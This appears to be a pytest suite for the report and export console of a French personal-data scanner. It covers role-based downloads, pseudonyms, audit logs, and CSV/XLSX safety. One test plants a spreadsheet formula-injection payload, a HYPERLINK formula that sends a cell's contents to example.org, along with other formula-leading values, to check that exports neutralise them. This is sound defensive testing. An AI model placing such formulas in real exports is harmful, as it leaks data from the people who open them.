"""Reports and annexes: who may download what, whole contents, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import itertools
import json
import tracemalloc

import openpyxl
import pytest
from consoles import COMMENTS, INSIDE, OUTSIDE_WORDS, Site
from fakes import KEY, WORDS
from html_pages import tables_of, words_of
from reports import pdf_words
from sqlalchemy import insert, select, update
from vaults import audited

from scanner.accounts import Perimeter
from scanner.catalogue import default_catalogue
from scanner.console import reports
from scanner.documents.html import html
from scanner.keys import pseudonym
from scanner.organisation import Organisation
from scanner.outputs import ReportForm
from scanner.report import writing
from scanner.report.document import report_document
from scanner.report.from_store import Wanted, dossier_of_store
from scanner.review import finding_rows as finding_rows_module
from scanner.review.finding_rows import HEADER, finding_rows
from scanner.spreadsheets import Sheet, csv_chunks, safe_cell, xlsx_chunks
from scanner.store.schema import findings, records, runs

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"x")'
SHOWN = ("traitement", "table", "fiche", "site", "date", "champ", "catégorie", "début", "fin", "certitude", "règle", "terme", "action")
LABELS = {"HEALTH": "Santé", "ADDICTION": "Addictions", "OFFENCE": "Infractions et condamnations", "FINANCIAL": "Situation financière"}
INSIDE_FINDINGS = (
    ("L-1", "note", "cancer", "à masquer"),
    ("L-2", "note", "alcoolique", "à retirer"),
    ("L-2", "note", "prison", "à retirer"),
    ("L-2", "suivi", "dette", "à retirer"),
    ("L-2", "suivi", "cancer", "à retirer"),
    ("L-3", "note", "dette", "signalé"),
    ("L-5", "note", "prison", "à masquer"),
)


def inside_rows() -> list[list]:
    """Return what is to be said of each finding of ``INSIDE``, from the comments themselves."""
    comments = {row[0]: dict(zip(("site", "team", "tenant", "entered", "note", "suivi"), row[1:], strict=True)) for row in COMMENTS}
    rows = []
    for ref, field, word, action in INSIDE_FINDINGS:
        start = comments[ref][field].index(word)
        entity, rule = WORDS[word]
        place = [start, start + len(word), 0.9]
        rows.append(["night", "comments", ref, INSIDE, comments[ref]["entered"], field, LABELS[entity], *place, rule, word, action])
    return rows


def shown(row: list) -> list:
    return [row[HEADER.index(name)] for name in SHOWN]


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with Site(tmp_path_factory.mktemp("reports")) as site:
        yield site


@pytest.fixture
def own_site(tmp_path):
    with Site(tmp_path) as site:
        yield site


def run_of(site: Site) -> tuple[str, dict]:
    with site.store.connect() as connection:
        row = connection.execute(select(runs.c.id, runs.c.summary)).one()
    return row.id, json.loads(row.summary)


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}  # and no "f"
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def as_text(rows: list[list]) -> list[list[str]]:
    return [[str(cell).replace(".", ",") if isinstance(cell, float) else str(cell) for cell in row] for row in rows]


def downloads(site: Site) -> list[dict]:
    return [details for event, details in audited(site.store) if event == "report-downloaded"]


def test_page_lists_runs_with_the_figures_of_the_store(site):
    client = site.client("dpo.all")
    runs_table, exports = tables_of(client.get_page("/console/reports"))
    _, summary = run_of(site)
    assert (summary["rows_read"], summary["findings"]) == (9, 12)
    assert [row[:1] + row[2:] for row in runs_table] == [
        ["Traitement", "État", "Fiches lues", "Non analysées", "Constats nouveaux", "Disparus", "Télécharger"],
        ["night", "terminée", "9", "0", "12", "0", "Rapport PDF Annexe (XLSX) Chiffres (JSON)"],
    ]
    assert exports == [["Traitement", "Télécharger"], ["night", "CSV Excel (XLSX)"]]


def test_report_and_summary_are_those_of_the_run(own_site):
    run_id, summary = run_of(own_site)
    client = own_site.client("dpo.all")
    dossier = dossier_of_store(own_site.store, Wanted("night", 1), Organisation())
    report = client.get(f"/console/reports/{run_id}/report.html")
    assert report.text == html(report_document(dossier, default_catalogue()))
    assert client.get(f"/console/reports/{run_id}/summary.json").json() == summary
    assert report.headers["content-disposition"] == f'attachment; filename="vigie-{run_id}-report.html"'
    assert report.headers["content-security-policy"] == "default-src 'none'; style-src 'unsafe-inline'; sandbox"
    assert downloads(own_site) == [{"run": run_id}, {"run": run_id}]


def test_the_report_in_its_other_forms(own_site):
    run_id, summary = run_of(own_site)
    client = own_site.client("auditor.all")
    answers = {form: client.get(f"/console/reports/{run_id}/report.{form}") for form in ("pdf", "xlsx", "json")}
    assert {form: answer.headers["content-disposition"] for form, answer in answers.items()} == {
        form: f'attachment; filename="vigie-{run_id}-report.{form}"' for form in answers
    }
    assert "Contrôle des zones de commentaires libres" in pdf_words(answers["pdf"].content)
    sheets = openpyxl.load_workbook(io.BytesIO(answers["xlsx"].content))
    header, *rows = sheets["Constats"].iter_rows(values_only=True)
    assert (len(rows), {len(row[header.index("fiche")]) for row in rows}) == (summary["findings"], {16})
    assert answers["json"].json()["summary"]["run"] == run_id
    assert downloads(own_site) == [{"run": run_id}] * 3


def test_pdf_is_not_offered_where_it_cannot_be_made(site, monkeypatch):
    run_id, _ = run_of(site)
    monkeypatch.setattr(writing, "find_spec", lambda name: None)
    client = site.client("dpo.all")
    assert client.get(f"/console/reports/{run_id}/report.pdf").status_code == 404
    assert f"{run_id}/report.pdf" not in client.get_page("/console/reports")


def test_who_may_not_see_records_gets_pseudonyms(own_site):
    run_id, summary = run_of(own_site)
    named = {**summary, "not_scanned": [{"source": "s", "row": None, "record_id": "L-1", "reason": "undecodable"}]}
    with own_site.store.begin() as connection:
        connection.execute(update(runs).values(summary=json.dumps(named)))
    client = own_site.client("auditor.all")
    told = client.get(f"/console/reports/{run_id}/summary.json").json()
    assert told == {**named, "not_scanned": [{**named["not_scanned"][0], "record_id": pseudonym("L-1", KEY)}]}
    rows = read_csv(client.get("/console/reports/findings.csv?job=night").content)
    dpo_rows = read_csv(own_site.client("dpo.all").get("/console/reports/findings.csv?job=night").content)
    at = HEADER.index("fiche")
    assert [row[at] for row in rows[1:]] == [pseudonym(row[at], KEY) for row in dpo_rows[1:]]


def test_limited_perimeter_gets_its_own_sites_and_no_report_of_all(site):
    run_id, _ = run_of(site)
    client = site.client("dpo")
    page = client.get_page("/console/reports")
    assert [[row[0], row[-1]] for row in tables_of(page)[0]] == [["Traitement", "État"], ["night", "terminée"]]
    for name in (*(form.file_name for form in ReportForm), "summary.json"):
        assert client.get(f"/console/reports/{run_id}/{name}").status_code == 404
    content = client.get("/console/reports/findings.csv?job=night").content
    header, *rows = read_csv(content)
    assert header == list(HEADER)
    assert [shown(row) for row in rows] == as_text(inside_rows())
    workbook = client.get("/console/reports/findings.xlsx?job=night")
    header, *rows = read_xlsx(workbook.content)
    assert header == list(HEADER)
    assert [shown(row) for row in rows] == inside_rows()
    said = (page + content.decode() + str(rows)).lower()
    assert [word for word in OUTSIDE_WORDS if word in said] == []


@pytest.mark.parametrize("login", ["reviewer.all", "site_manager", "site_manager.all"])
def test_reports_do_not_exist_for_other_roles(site, login):
    run_id, _ = run_of(site)
    client = site.client(login)
    of_run = (*(form.file_name for form in ReportForm), "summary.json")
    paths = ("", *(f"/{run_id}/{name}" for name in of_run), "/findings.csv?job=night", "/findings.xlsx?job=night")
    assert [client.get(f"/console/reports{path}").status_code for path in paths] == [404] * 8


@pytest.mark.parametrize(
    "path",
    [
        "/0123456789abcdef/report.html",
        "/0123456789abcdef/report.pdf",
        "/0123456789abcdef/summary.json",
        "/findings.csv?job=other",
        "/findings.csv?job=",
    ],
)
def test_what_does_not_exist_is_not_found(site, path):
    before = len(downloads(site))
    assert site.client("dpo.all").get(f"/console/reports{path}").status_code == 404
    assert len(downloads(site)) == before


def test_formulas_and_markup_in_names_do_no_harm(own_site):
    with own_site.store.begin() as connection:
        connection.execute(update(records).where(records.c.record == "L-1").values(record=FORMULA, site="+1"))
        connection.execute(update(findings).where(findings.c.record_id == 1).values(field="@SUM(A1)", rule="-2", term="\t=3"))
    client = own_site.client("dpo.all")
    for row in (
        read_csv(client.get("/console/reports/findings.csv?job=night").content)[1],
        read_xlsx(client.get("/console/reports/findings.xlsx?job=night").content)[1],
    ):
        cells = dict(zip(HEADER, row, strict=True))
        assert {name: cells[name] for name in ("fiche", "site", "champ", "règle", "terme")} == {
            "fiche": f"'{FORMULA}",
            "site": "'+1",
            "champ": "'@SUM(A1)",
            "règle": "'-2",
            "terme": "'\t=3",
        }


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_cells_that_would_run_are_text(start):
    assert safe_cell(f"{start}1") == f"'{start}1"


@pytest.mark.parametrize("cell", ["", "00123", "1E5", "a=b", "'", -5, 0.5])
def test_other_cells_stay_as_they_are(cell):
    assert safe_cell(cell) == cell


def test_ids_stay_text_in_workbooks():
    ids = ["00123", "1E5", "03-04", "12345678901234567890"]
    made = b"".join(xlsx_chunks([Sheet("constats", ["fiche"], [[one] for one in ids])]))
    assert read_xlsx(made) == [["fiche"], *([one] for one in ids)]


def test_control_characters_do_not_break_a_workbook():
    assert read_xlsx(b"".join(xlsx_chunks([Sheet("t", ["a"], [["x\x00y\x0bz"]])]))) == [["a"], ["x\ufffdy\ufffdz"]]


def test_csv_is_sent_as_it_is_made():
    pulled = itertools.count()
    chunks = csv_chunks(["n"], ([next(pulled)] for _ in itertools.count()))
    first = next(chunks)
    assert first.startswith("\ufeffn\r\n0\r\n1\r\n".encode())
    assert next(pulled) < 1_000


def test_csv_of_many_rows_takes_the_memory_of_few():
    def peak(rows: int) -> int:
        tracemalloc.start()
        try:
            for _ in csv_chunks(["a", "b"], (["x" * 40, n] for n in range(rows))):
                pass
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    assert peak(100_000) < 2 * peak(5_000)


def test_rows_are_the_same_whatever_the_page(site, monkeypatch):
    whole = list(finding_rows(site.store, Perimeter.everything(), "night", str))
    assert len(whole) == 12
    for size in (1, 2, 5, 11, 12, 13):
        monkeypatch.setattr(finding_rows_module, "_PAGE", size)
        assert list(finding_rows(site.store, Perimeter.everything(), "night", str)) == whole


def test_workbooks_of_too_many_findings_are_not_offered(site, monkeypatch):
    monkeypatch.setattr(reports, "XLSX_ROWS", 11)
    client = site.client("dpo.all")
    assert tables_of(client.get_page("/console/reports"))[1][1] == ["night", "CSV plus de 11 constats : CSV seulement"]
    assert client.get("/console/reports/findings.xlsx?job=night").status_code == 413
    monkeypatch.setattr(reports, "XLSX_ROWS", 12)
    assert client.get("/console/reports/findings.xlsx?job=night").status_code == 200


def test_findings_that_were_set_aside_are_left_out(own_site):
    with own_site.store.begin() as connection:
        connection.execute(update(findings).where(findings.c.entity != "HEALTH").values(dismissed="d1"))
    _, *rows = read_csv(own_site.client("dpo").get("/console/reports/findings.csv?job=night").content)
    assert [row[HEADER.index("fiche")] for row in rows] == ["L-1", "L-2"]


def test_runs_are_paged_newest_first(own_site):
    with own_site.store.begin() as connection:
        template = dict(connection.execute(select(runs)).mappings().one())
        for number in range(2, 60):
            changes = {"id": f"{number:016x}", "number": number, "started": f"2026-12-01T{number // 3:02}:00:00+00:00", "status": "failed"}
            connection.execute(insert(runs).values(template | changes))
    client, path, seen = own_site.client("dpo.all"), "/console/reports", []
    while path:
        page = client.get_page(path)
        seen += [row[1].split("n° ")[1].split(",")[0] for row in tables_of(page)[0][1:]]
        path = page.split('rel="next" href="')[1].split('"')[0].replace("&amp;", "&") if 'rel="next"' in page else ""
    assert seen == [str(number) for number in range(59, 0, -1)]


def test_empty_store_says_so(own_site):
    with own_site.store.begin() as connection:
        connection.execute(update(runs).values(status="running", ended=None, summary=None))
    page = own_site.client("dpo").get_page("/console/reports")
    assert "Les rapports paraîtront ici dès qu’une analyse sera terminée sur votre périmètre." in words_of(page)
    assert "–" in tables_of(own_site.client("dpo.all").get_page("/console/reports"))[0][1]
